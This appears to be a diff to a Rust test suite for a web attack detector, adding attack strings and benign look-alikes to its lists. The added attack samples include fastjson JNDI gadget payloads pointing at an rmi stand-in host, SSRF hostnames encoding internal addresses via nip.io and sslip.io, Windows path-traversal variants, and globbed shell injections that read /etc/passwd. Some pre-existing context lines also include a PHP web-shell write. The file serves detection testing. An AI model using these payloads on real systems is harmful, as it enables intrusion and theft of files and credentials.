@@ -1680,6 +1680,10 @@ fn deserialization_streams_of_dotnet_java_and_python() {
         r#"{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://x.example/a"}"#,
         r#"["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://x.example/a"}]"#,
         r#"{"@class":"ch.qos.logback.core.db.DriverManagerConnectionSource","url":"jdbc:h2:mem:"}"#,
+        // fastjson's descriptor spellings and an escaped key (review of the round).
+        r#"{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://x.example:1099/a","autoCommit":true}"#,
+        r#"{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"rmi://x.example/a"}"#,
+        r#"{"\u0040type":"oracle.jdbc.connector.OracleManagedConnectionFactory","xaDataSourceName":"rmi://x.example/a"}"#,
         "cos\nsystem\n(S'id'\ntR.",
         "csubprocess\ncheck_output\n(S'id'\ntR.",
         "Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu",
@@ -1740,6 +1744,10 @@ fn response_splitting_behind_unicode_line_breaks() {
     assert_placed(true, EVERY_PLACE, &attacks);
     let benign = [
         "最上Location: Shinjuku",
+        // 上 U+4E0A and 不 U+4E0D end in 0x8A/0x8D: CJK text, not a line break.
+        "加上 Access-Control-Allow-Origin: *",
+        "这个不Location: http://example.com/",
+        "请加上Access-Control-Allow-Credentials: true 的说明",
         "嘊 set cookie recipe",
         "Line one\u{2028}Location of the shop: Main St",
         "Notes:\nContent-Type is set by the server",
@@ -1810,6 +1818,7 @@ fn template_statements_of_more_engines_and_prototype_in_json_text() {
         "#foreach item in the list",
         "<%= @product.title %>",
         "<%= link_to 'Files', files_path %>",
+        "<%= file.name %> (<%= dir.size %> files)",
         r#"{"constructor": {"name": "Acme"}, "prototype": "ready"}"#,
         "Print the file with raw blocks {% endraw %}",
     ];
@@ -1840,9 +1849,16 @@ fn whole_value_classes_of_session_12() {
                 "https://app.192.168.1.10.nip.io/internal",
                 "http://169-254-169-254.sslip.io/latest/",
                 "gopher://172.16.0.3.xip.io:6379/_INFO",
+                // More labels, dashes, the hex form, sslip's IPv6 loopback (review).
+                "http://customer1.app.10.0.0.1.nip.io/",
+                "http://my-app-127-0-0-1.nip.io/",
+                "http://app-7f000001.nip.io/",
+                "http://--1.sslip.io/",
             ],
             &[
                 "https://203.0.113.7.nip.io/demo",
+                "https://my-app-203-0-113-7.nip.io/",
+                "https://app-cb007107.nip.io/",
                 "https://nip.io/",
                 "http://my-app.sslip.io/",
                 "https://v10.0.3.releases.example.com/notes",
@@ -1879,6 +1895,8 @@ fn whole_value_classes_of_session_12() {
                 "C:\\Program Files (x86)\\app\\web.config",
                 "c:\\inetpub\\wwwroot\\web.config",
                 "C:\\Windows",
+                "C:\\Windows.\\Panther\\Unattend.xml",
+                "C:\\Windows::$INDEX_ALLOCATION\\win.ini",
             ],
             &[
                 "C:\\Program Files (x86) missing",
@@ -1905,6 +1923,7 @@ fn globbed_binaries_redirects_php_base64_trailing_dots_and_template_variables() 
         ";/bin/s?? -c id",
         "|/usr/bin/c?t /etc/passwd",
         ";echo test > /var/www/html/x.txt",
+        ";/bin/ca* /etc/passwd",
         "&& printf '<?php system($_GET[0]);' >> /var/www/html/s.php",
         "Tzo4OiJzdGRDbGFzcyI6MTp7czo0OiJmaWxlIjtzOjExOiIvZXRjL3Bhc3N3ZCI7fQ==",
         "http://localhost./",
@@ -1917,6 +1936,8 @@ fn globbed_binaries_redirects_php_base64_trailing_dots_and_template_variables() 
     ];
     let benign = [
         "Files live in /usr/bin/* on most systems",
+        // A resource path with a query string after a separator (Foswiki, AEM), not a glob.
+        "see;/bin/login?origurl=/x",
         "echo the answer > the question",
         "dGhpcyBpcyBqdXN0IHRleHQgb2Ygbm8gaW1wb3J0YW5jZQ==",
         "http://localhost.example.com/",
@@ -1924,6 +1945,13 @@ fn globbed_binaries_redirects_php_base64_trailing_dots_and_template_variables() 
         "Use ${dir} and ${vars} in the config",
     ];
     assert_class(&every_place_but(Place::AfterFiller), &attacks, &benign);
+    // The command-to-redirect span has no bound (it had one of 200 bytes).
+    let long = format!(";echo {} > /tmp/x", "y".repeat(300));
+    assert_placed(
+        true,
+        &[Place::Query, Place::Form, Place::Json],
+        &[long.as_str()],
+    );
 }
 
 /// Session 12: a negated comparison word after a logic word
